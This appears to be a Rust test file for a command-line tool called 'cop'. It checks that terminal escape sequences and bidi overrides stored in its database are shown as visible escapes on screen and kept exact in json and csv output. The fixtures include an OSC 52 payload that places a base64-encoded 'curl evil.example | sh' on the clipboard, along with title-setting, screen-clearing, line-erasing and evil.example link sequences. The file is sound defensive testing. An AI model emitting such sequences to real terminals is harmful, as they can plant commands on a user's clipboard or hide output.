//! Stored text never acts on the terminal (issue 12, item 2): every table cell, `show`
//! value, markdown note, chart label, prompt and message on stderr shows control
//! characters, DEL and bidi overrides as `\u{1b}`-style escapes, while `json`, `jsonl`,
//! `csv` and `tsv` keep the exact bytes for scripts.
//!
//! The hostile text is written straight into the database: whichever way in lets it
//! through (an import from someone else's file, an older `cop`, a hand edit), what is
//! stored must be shown, never obeyed.

mod common;

use common::Env;
use common::terminal::{answer, terminal};
use rusqlite::params;

/// OSC 52 puts `curl evil.example | sh` on the clipboard; OSC 0 sets the window title.
const NOTE: &str = "harmless\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;HACKED\x07";
const NOTE_SHOWN: &str = "harmless\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{7}\\u{1b}]0;HACKED\\u{7}";

/// Stores `value` in `table.column` of row `id`, as an import or an older cop could have.
fn store(env: &Env, table: &str, column: &str, id: i64, value: &str) {
    let conn = rusqlite::Connection::open(env.db()).expect("open db");
    let n = conn
        .execute(&format!("UPDATE {table} SET {column} = ?1 WHERE id = ?2"), params![value, id])
        .expect("update");
    assert_eq!(n, 1, "{table} {id} exists");
}

/// Runs `cop ARGS` and returns stdout and stderr as bytes, asserting `code`.
fn run(env: &Env, code: i32, args: &[&str]) -> (Vec<u8>, Vec<u8>) {
    let out = env.cop().args(args).output().expect("run cop");
    assert_eq!(out.status.code(), Some(code), "cop {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    (out.stdout, out.stderr)
}

/// Asserts that `bytes` hold no byte a terminal would act on (other than newlines) and
/// no bidi control, and returns them as text.
fn inert(what: &str, bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec()).expect("utf-8");
    let bad = text.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    });
    assert_eq!(bad, None, "{what} holds {bad:?}: {text:?}");
    text
}

#[test]
fn members_show_makes_osc_sequences_in_a_note_visible() {
    let env = Env::new();
    env.member("Ana Souza", &[]);
    store(&env, "members", "note", 1, NOTE);
    // `--format markdown` used to print the table here; it is refused now (issue 18,
    // item 13), and its one line names no stored text.
    let (stdout, stderr) = run(&env, 2, &["members", "show", "1", "--format", "markdown"]);
    assert!(stdout.is_empty());
    inert("members show --format markdown", &stderr);
    let (stdout, _) = run(&env, 0, &["members", "show", "1", "--format", "table"]);
    let text = inert("members show", &stdout);
    assert!(text.contains(NOTE_SHOWN), "{text}");
}

#[test]
fn members_list_makes_a_screen_clearing_region_visible() {
    let env = Env::new();
    env.member("Ana Souza", &["--region", "north"]);
    env.member("Bo Lima", &[]);
    store(&env, "members", "region", 1, "r\x1b[2J");
    let (stdout, stderr) = run(&env, 2, &["members", "list", "--format", "markdown"]);
    assert!(stdout.is_empty());
    inert("members list --format markdown", &stderr);
    let (stdout, _) = run(&env, 0, &["members", "list", "--format", "table"]);
    let text = inert("members list", &stdout);
    assert!(text.contains("r\\u{1b}[2J"), "{text}");
    assert!(text.contains("Bo Lima"), "the other rows are there: {text}");
}

#[test]
fn a_bidi_override_in_a_name_is_shown_as_an_escape() {
    let env = Env::new();
    // U+202E is no control character, so the command line takes it: it shows "Ana
    // Souza" as "Ana azuoS" and can make an id column read backwards.
    let name = "Ana \u{202e}azuoS\u{2066}";
    env.member(name, &[]);
    let (list, _) = run(&env, 0, &["members", "list"]);
    assert!(inert("members list", &list).contains("Ana \\u{202e}azuoS\\u{2066}"));
    let (show, _) = run(&env, 0, &["members", "show", "1"]);
    assert!(inert("members show", &show).contains("Ana \\u{202e}azuoS\\u{2066}"));
    let (_, stderr) = run(&env, 0, &["members", "archive", "1"]);
    assert!(inert("archive message", &stderr).contains("\\u{202e}"));
    // Scripts get the name back exactly.
    assert_eq!(env.json(&["members", "show", "1"])["name"], name);
}

#[test]
fn json_and_csv_keep_the_exact_bytes() {
    let env = Env::new();
    env.member("Ana Souza", &["--region", "north"]);
    store(&env, "members", "note", 1, NOTE);
    store(&env, "members", "region", 1, "r\x1b[2J\u{202e}");
    let m = env.json(&["members", "show", "1"]);
    assert_eq!((m["note"].as_str(), m["region"].as_str()), (Some(NOTE), Some("r\x1b[2J\u{202e}")));
    let (jsonl, _) = run(&env, 0, &["members", "list", "--format", "jsonl"]);
    let row: serde_json::Value = serde_json::from_slice(&jsonl).expect("one JSON line");
    assert_eq!(row["note"], NOTE);
    for format in ["csv", "tsv"] {
        let (rows, _) = run(&env, 0, &["members", "list", "--format", format]);
        let text = String::from_utf8(rows).expect("utf-8");
        assert!(text.contains(NOTE) && text.contains("r\x1b[2J\u{202e}"), "{format}: {text:?}");
    }
    let (export, _) = run(&env, 0, &["members", "export"]);
    assert!(String::from_utf8(export).expect("utf-8").contains(NOTE));
}

#[test]
fn messages_and_errors_on_stderr_make_a_quoted_name_visible() {
    let env = Env::new();
    env.member("Ana Souza", &[]);
    env.member("Ana Lima", &[]);
    store(&env, "members", "name", 1, "Ana\x1b[2J\x1b]0;HACKED\x07");

    let (_, archived) = run(&env, 0, &["members", "archive", "1"]);
    assert!(inert("archive message", &archived).contains("Ana\\u{1b}[2J\\u{1b}]0;HACKED\\u{7}"));
    env.ok(&["members", "restore", "1"]);

    // The candidates of an ambiguous reference are stored names.
    let (_, ambiguous) = run(&env, 2, &["members", "show", "ana"]);
    let text = inert("ambiguity error", &ambiguous);
    assert!(text.contains("Ana\\u{1b}[2J") && text.contains("Ana Lima"), "{text}");

    // A refused confirmation quotes the name in its question.
    let (_, refused) = run(&env, 2, &["members", "forget", "1"]);
    assert!(inert("forget error", &refused).contains("Ana\\u{1b}[2J"));
}

#[test]
fn show_keeps_the_lines_of_a_note_and_escapes_the_rest() {
    let env = Env::new();
    let s = env.ok(&["sessions", "add", "--title", "Brown bag", "--at", "fri 12:00", "-q"]);
    let id: i64 = s.trim().parse().expect("an id");
    store(&env, "sessions", "note", id, "line one\nline\ttwo\r\x1b[1A");
    let (stdout, _) = run(&env, 0, &["sessions", "show", &id.to_string()]);
    let text = inert("sessions show", &stdout);
    assert!(text.contains("line one\n"), "newlines in a note stay lines: {text}");
    assert!(text.contains("line\\ttwo\\r\\u{1b}[1A"), "{text}");
}

#[test]
fn markdown_notes_and_chart_labels_make_stored_escapes_visible() {
    let env = Env::new();
    env.member("Ana Souza", &["--need", "mapping"]);
    env.member("Bo Lima", &["--need", "mapping"]);
    let a =
        env.ok(&["assist", "log", "--challenge", "Funding", "--presenter", "1", "--situation", "x", "-q"]);
    let a: i64 = a.trim().parse().expect("an id");
    store(&env, "assists", "situation", a, "Two lines\nthen \x1b]8;;https://evil.example\x07a link");
    let (md, _) = run(&env, 0, &["assist", "show", &a.to_string(), "--format", "markdown"]);
    let text = inert("assist markdown", &md);
    assert!(text.contains("Two lines\nthen \\u{1b}]8;;https://evil.example\\u{7}a link"), "{text}");

    let tag: i64 = {
        let conn = rusqlite::Connection::open(env.db()).expect("open db");
        conn.query_row("SELECT id FROM tags WHERE name = 'mapping'", [], |r| r.get(0)).expect("the tag")
    };
    store(&env, "tags", "name", tag, "map\x1b[2Jping");
    let (report, _) = run(&env, 0, &["report", "needs"]);
    let text = inert("report needs", &report);
    assert!(text.matches("map\\u{1b}[2Jping").count() >= 2, "in the table and the chart: {text}");
}

#[test]
fn a_draft_cannot_hide_the_saved_line_of_assist_run() {
    let env = Env::new();
    env.member("Ana Souza", &[]);
    let draft = r#"{"challenge": "Funding", "presenters": [1], "status": "draft"}"#;
    let file = env.dir.path().join("draft.json");
    std::fs::write(&file, draft).expect("write draft");
    env.ok(&["assist", "log", "--from", file.to_str().expect("utf-8 path")]);
    // Cursor up one line and erase it: the "saved:" line would vanish.
    store(&env, "assists", "situation", 1, "before\x1b[1A\x1b[2Kafter");
    store(&env, "assists", "challenge", 1, "Funding\x1b]0;HACKED\x07");

    let Some(mut s) = terminal(&env, &["assist", "run", "--resume", "1"]) else { return };
    // The terminal helper strips real escape sequences from what the test reads, so
    // finding the escapes written out proves they reached the terminal as text.
    s.exp_string("Continuing draft assist 1: Funding\\u{1b}]0;HACKED\\u{7}").expect("the challenge, visible");
    s.exp_string("saved: before\\u{1b}[1A\\u{1b}[2Kafter").expect("the saved line, visible");
    s.exp_string("Situation (Enter keeps what is saved").expect("the question follows");
    s.send_control('c').expect("Ctrl-C");
    s.exp_eof().expect("cop stops");
}

#[test]
fn tables_and_prompts_on_a_terminal_make_stored_escapes_visible() {
    let env = Env::new();
    env.member("Ana Souza", &["--region", "north"]);
    store(&env, "members", "region", 1, "r\x1b[2J");
    store(&env, "members", "name", 1, "Ana\x1b]0;HACKED\x07");
    let Some(mut s) = terminal(&env, &["members", "list"]) else { return };
    s.exp_string("r\\u{1b}[2J").expect("the region, visible on a terminal too");
    s.exp_eof().expect("cop ends");

    let Some(mut s) = terminal(&env, &["members", "forget", "1"]) else { return };
    s.exp_string("forget Ana\\u{1b}]0;HACKED\\u{7}").expect("the question quotes the name visibly");
    answer(&mut s, "", "n");
    s.exp_eof().expect("cop ends");
    assert_eq!(env.json(&["members", "show", "1"])["name"], "Ana\x1b]0;HACKED\x07");
}
